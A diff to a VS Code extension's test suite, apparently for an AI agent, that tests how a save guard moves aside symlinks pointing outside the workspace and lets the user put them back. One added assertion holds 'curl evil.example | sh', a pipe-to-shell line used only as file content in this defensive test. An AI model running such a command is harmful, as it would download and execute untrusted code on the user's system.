@@ -51,9 +51,39 @@ describe("save guard: a save, a reload or Pi's undo never goes through a command
       assert.equal(fs.readFileSync(victim, "utf8"), victimText, "the file outside is untouched");
       assert.equal(fs.lstatSync(file).isFile(), true, "a plain file where the user sees it");
       assert.equal(fs.readFileSync(file, "utf8"), edited.getText(), "holding what was saved");
+      assert.equal(edited.getText(), "notes\ncurl evil.example | sh\n", "the document's own text, not emptied");
       const toast = await warningLine(/moved aside/);
       assert.match(toast, /moved aside/);
       await ui.screenshot("sandbox-save-link-moved-aside");
+    } finally {
+      await cleanUp(file, victim);
+    }
+  });
+
+  it("puts the link back when the user clicks the notice's button: the document opened through it is the user's, saved where it leads", async () => {
+    const host = suiteHost();
+    const victim = victimFile("put-back-victim");
+    const name = "save-guard-put-back.txt";
+    const { file } = await openedFile(name);
+    try {
+      const before = host.llm.requests.length;
+      await runCommand(host, linkCommand(name, victim), () => isLink(file) || !inATab(file));
+      await host.llm.waitForRequests(before + 2);
+      await settled(host);
+      await eventually("the link moved aside", () => (!isLink(file) && !inATab(file)) || undefined, 20_000);
+      const toast = `.notifications-toasts .notification-toast:has-text("${name}")`;
+      await ui.click(`${toast} .monaco-button:has-text("Put the Link Back")`);
+      await eventually("the link back in place", () => (isLink(file) && fs.readlinkSync(file) === victim) || undefined, 10_000);
+      // Opened again by the user, through the link: theirs, nothing closed or emptied.
+      const reopened = await vscode.workspace.openTextDocument(file);
+      await vscode.window.showTextDocument(reopened, { preview: false });
+      await eventually("the document showing the linked file", () => reopened.getText() === victimText || undefined, 20_000);
+      await ui.pressKey("Control+End");
+      await ui.typeText("# their own line");
+      await ui.pressKey("Control+S");
+      await eventually("the document saved", () => !reopened.isDirty || undefined, 20_000);
+      assert.equal(isLink(file), true, "the link left in place");
+      assert.equal(fs.readFileSync(victim, "utf8"), `${victimText}# their own line`, "saved where the link leads");
     } finally {
       await cleanUp(file, victim);
     }
